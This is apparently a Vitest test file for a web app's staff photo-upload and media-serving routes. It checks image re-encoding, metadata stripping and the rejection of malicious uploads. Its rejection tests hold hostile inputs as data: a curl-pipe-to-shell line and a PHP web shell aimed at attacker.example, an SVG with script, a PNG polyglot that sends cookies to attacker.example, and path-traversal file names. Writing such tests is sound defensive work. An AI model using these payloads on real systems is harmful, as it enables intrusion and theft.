import { count } from "drizzle-orm";
import sharp from "sharp";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";

vi.mock("@/lib/auth/session", () => ({ getSessionUser: vi.fn(async () => null) }));

import { GET as getPhotos, POST as uploadPhoto } from "@/app/api/staff/models/[slug]/photos/route";
import { GET as getMedia } from "@/app/media/[...key]/route";
import { removePhotoAction, reorderPhotosAction } from "@/lib/staff/actions";
import { modelPhotos } from "@/db/schema";
import { seedDemo } from "@/lib/demo/commands";
import { getSessionUser } from "@/lib/auth/session";
import { MAX_UPLOAD_BYTES } from "@/lib/uploads/upload-rules";
import { resetDb } from "../../support/db";
import {
  makePhoto,
  modelBySlug,
  params,
  sessionUserFor,
  startPhotoStore,
  uploadRequest,
} from "./helpers";

const session = vi.mocked(getSessionUser);
let store: Awaited<ReturnType<typeof startPhotoStore>>;

beforeAll(async () => {
  store = await startPhotoStore();
});
afterAll(async () => {
  await store?.close();
});

beforeEach(async () => {
  const db = await resetDb();
  await seedDemo(db);
  session.mockResolvedValue(await sessionUserFor(db, "staff"));
  await store.clear();
  expect(await store.listKeys()).toEqual([]);
});

async function upload(input: Parameters<typeof uploadRequest>[0]) {
  const res = await uploadPhoto(uploadRequest(input), params({ slug: input.slug }));
  return {
    status: res.status,
    body: (await res.json()) as {
      photo?: { id: string; keyBase: string; widths: number[]; width: number; height: number };
      error?: { code: string; message: string };
    },
  };
}

async function photoRows() {
  const { getDb } = await import("@/db/client");
  const db = await getDb();
  const [row] = await db.select({ n: count() }).from(modelPhotos);
  return row?.n ?? 0;
}

describe("photo uploads", () => {
  it("re-encodes a JPEG to WebP display sizes without its metadata, stores it under a server key, and serves it", async () => {
    const bytes = await makePhoto({ width: 1600, height: 1200, format: "jpeg" });
    expect((await sharp(bytes).metadata()).exif).toBeDefined();
    const { status, body } = await upload({
      slug: "hollow-four",
      bytes,
      fileName: "IMG_2041.jpg",
      type: "image/jpeg",
    });
    expect(status).toBe(201);
    const photo = body.photo!;
    expect(photo.widths).toEqual([320, 640, 960, 1440]);
    expect(photo).toMatchObject({ width: 1440, height: 1080 });
    expect(photo.keyBase).toMatch(/^photos\/[0-9a-f-]{36}$/);
    expect(photo.keyBase).not.toContain("IMG_2041");
    expect(await store.listKeys()).toEqual(
      photo.widths.map((w) => `${photo.keyBase}-${w}.webp`).sort(),
    );

    const res = await getMedia(
      new Request(`http://localhost/media/${photo.keyBase}-640.webp`),
      params({
        key: [...photo.keyBase.split("/").slice(0, 1), `${photo.keyBase.split("/")[1]}-640.webp`],
      }),
    );
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("image/webp");
    expect(res.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
    const served = Buffer.from(await res.arrayBuffer());
    const meta = await sharp(served).metadata();
    expect(meta).toMatchObject({ format: "webp", width: 640, height: 480 });
    // Re-encoding dropped the camera's EXIF block (artist, copyright, and GPS when a phone adds it).
    expect(meta.exif).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
  });

  it("keeps PNG and WebP too, and lists photos in upload order", async () => {
    await upload({
      slug: "hollow-four",
      bytes: await makePhoto({ width: 700, height: 500, format: "png" }),
      fileName: "side.png",
      type: "image/png",
    });
    await upload({
      slug: "hollow-four",
      bytes: await makePhoto({ width: 400, height: 300, format: "webp" }),
      fileName: "top.webp",
      type: "image/webp",
    });
    const res = await getPhotos(
      new Request("http://localhost/api/staff/models/hollow-four/photos"),
      params({ slug: "hollow-four" }),
    );
    const { items } = (await res.json()) as { items: { widths: number[]; position: number }[] };
    expect(items.map((p) => p.widths)).toEqual([[320, 640], [320]]);
    expect(items.map((p) => p.position)).toEqual([0, 1]);
  });

  describe("attacks are refused with 4xx and nothing is stored", () => {
    const refused = async (input: Parameters<typeof uploadRequest>[0], message: RegExp) => {
      const { status, body } = await upload(input);
      expect(status).toBeGreaterThanOrEqual(400);
      expect(status).toBeLessThan(500);
      expect(body.error?.message).toMatch(message);
      expect(await store.listKeys()).toEqual([]);
      expect(await photoRows()).toBe(0);
    };

    it("a file one byte over the 10 MB limit (and one exactly at it passes the size check)", async () => {
      const jpeg = await makePhoto({ width: 400, height: 300, format: "jpeg" });
      const over = new Uint8Array(MAX_UPLOAD_BYTES + 1);
      over.set(jpeg);
      await refused(
        { slug: "hollow-four", bytes: over, fileName: "big.jpg", type: "image/jpeg" },
        /10,485,761 bytes.*at most 10 MB/,
      );
      // At the limit the size is fine; the zeros after the picture are padding, so it is taken.
      const at = over.subarray(0, MAX_UPLOAD_BYTES);
      const { status } = await upload({
        slug: "hollow-four",
        bytes: at,
        fileName: "big.jpg",
        type: "image/jpeg",
      });
      expect(status).toBe(201);
    });

    it("a script renamed .jpg and declared as a JPEG", async () => {
      const script = new TextEncoder().encode(
        "#!/bin/sh\ncurl http://attacker.example/x | sh\n<?php system($_GET['c']); ?>",
      );
      await refused(
        { slug: "hollow-four", bytes: script, fileName: "house.jpg", type: "image/jpeg" },
        /Only JPEG, PNG and WebP/,
      );
    });

    it("a PNG renamed .jpg whose bytes are really a script", async () => {
      const html = new TextEncoder().encode(
        "<html><script>fetch('/api/staff/models')</script></html>",
      );
      await refused(
        { slug: "hollow-four", bytes: html, fileName: "front.png.jpg", type: "image/png" },
        /Only JPEG, PNG and WebP/,
      );
    });

    it("an SVG, even a harmless-looking one", async () => {
      const svg = new TextEncoder().encode(
        '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><script>alert(1)</script><rect width="400" height="300"/></svg>',
      );
      await refused(
        { slug: "hollow-four", bytes: svg, fileName: "drawing.svg", type: "image/svg+xml" },
        /Only JPEG, PNG and WebP/,
      );
    });

    it("a polyglot: a real PNG with a script appended", async () => {
      const png = await makePhoto({ width: 400, height: 300, format: "png" });
      const tail = new TextEncoder().encode(
        "<script>document.location='http://attacker.example/?'+document.cookie</script>",
      );
      const polyglot = new Uint8Array(png.length + tail.length);
      polyglot.set(png);
      polyglot.set(tail, png.length);
      await refused(
        { slug: "hollow-four", bytes: polyglot, fileName: "front.png", type: "image/png" },
        /other data after the picture ends/,
      );
    });

    it("an empty file", async () => {
      await refused(
        {
          slug: "hollow-four",
          bytes: new Uint8Array(0),
          fileName: "empty.jpg",
          type: "image/jpeg",
        },
        /The file is empty/,
      );
    });

    it("a file name with ../ in it", async () => {
      const jpeg = await makePhoto({ width: 400, height: 300, format: "jpeg" });
      await refused(
        {
          slug: "hollow-four",
          bytes: jpeg,
          fileName: "../../var/dev-secrets.jpg",
          type: "image/jpeg",
        },
        /folder path/,
      );
    });

    it("a photo without alt text, and one too small to show", async () => {
      const jpeg = await makePhoto({ width: 400, height: 300, format: "jpeg" });
      await refused(
        { slug: "hollow-four", bytes: jpeg, fileName: "a.jpg", type: "image/jpeg", altText: "  " },
        /^altText: Describe the photo/,
      );
      const tiny = await makePhoto({ width: 200, height: 150, format: "jpeg" });
      await refused(
        { slug: "hollow-four", bytes: tiny, fileName: "tiny.jpg", type: "image/jpeg" },
        /at least 320 × 240/,
      );
    });

    it("a body that is not multipart at all", async () => {
      const res = await uploadPhoto(
        new Request("http://localhost/api/staff/models/hollow-four/photos", {
          method: "POST",
          body: "{}",
          headers: { "content-type": "application/json" },
        }),
        params({ slug: "hollow-four" }),
      );
      expect(res.status).toBe(400);
      expect(await store.listKeys()).toEqual([]);
    });
  });

  it("the media route refuses keys not of our shape without asking the store", async () => {
    for (const key of [
      ["..", "var", "dev-secrets.json"],
      ["photos", "not-a-uuid-640.webp"],
      ["photos", "1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed-640.png"],
    ]) {
      const res = await getMedia(
        new Request(`http://localhost/media/${key.join("/")}`),
        params({ key }),
      );
      expect(res.status, key.join("/")).toBe(404);
    }
    const missing = await getMedia(
      new Request("http://localhost/media/x"),
      params({ key: ["photos", "1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed-640.webp"] }),
    );
    expect(missing.status).toBe(404);
  });

  it("reorders and removes photos, deleting the stored sizes", async () => {
    const a = (
      await upload({
        slug: "hollow-four",
        bytes: await makePhoto({ width: 400, height: 300, format: "jpeg" }),
        fileName: "a.jpg",
        type: "image/jpeg",
      })
    ).body.photo!;
    const b = (
      await upload({
        slug: "hollow-four",
        bytes: await makePhoto({ width: 700, height: 500, format: "jpeg" }),
        fileName: "b.jpg",
        type: "image/jpeg",
      })
    ).body.photo!;
    const { getDb } = await import("@/db/client");
    const model = await modelBySlug(await getDb(), "hollow-four");
    expect(await reorderPhotosAction({ modelId: model.id, photoIds: [b.id, a.id] })).toMatchObject({
      ok: true,
    });
    const res = await getPhotos(new Request("http://localhost/x"), params({ slug: "hollow-four" }));
    expect(((await res.json()) as { items: { id: string }[] }).items.map((p) => p.id)).toEqual([
      b.id,
      a.id,
    ]);
    // A list that leaves a photo out is refused and changes nothing.
    expect(await reorderPhotosAction({ modelId: model.id, photoIds: [a.id] })).toMatchObject({
      ok: false,
      error: { code: "conflict" },
    });

    expect(await removePhotoAction({ id: b.id })).toMatchObject({ ok: true });
    expect(await store.listKeys()).toEqual([`${a.keyBase}-320.webp`]);
    expect(await removePhotoAction({ id: b.id })).toMatchObject({
      ok: false,
      error: { code: "not_found" },
    });
  });
});
